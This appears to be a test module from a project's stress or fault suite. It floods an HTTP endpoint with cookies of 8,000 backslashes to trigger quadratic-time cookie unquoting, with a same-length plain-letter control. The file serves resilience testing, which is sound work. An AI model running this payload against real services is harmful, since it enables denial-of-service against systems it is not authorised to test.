"""H2: a cookie of 8,000 backslashes in quotes, which the standard library unquotes in quadratic time; no key."""

from __future__ import annotations

import asyncio

from tests.faults.siege.crew import Crew

CHARS = 8000
EVERY_SECONDS = 0.1  # an attack of tiny means: 10 requests a second of each connection at most


async def attack(crew: Crew, address: str) -> None:
    """Ask again and again on one connection; option plain: the same length, but letters."""
    text = "a" * CHARS if crew.options.get("plain") else "\\" * CHARS
    head = crew.head("GET", "/v1/types", f'Cookie: livewell="{text}"')
    async with crew.line(address) as line:
        while not crew.over:
            await line.send(head)
            crew.note(await line.answer())
            await asyncio.sleep(crew.pace("every_seconds", EVERY_SECONDS))
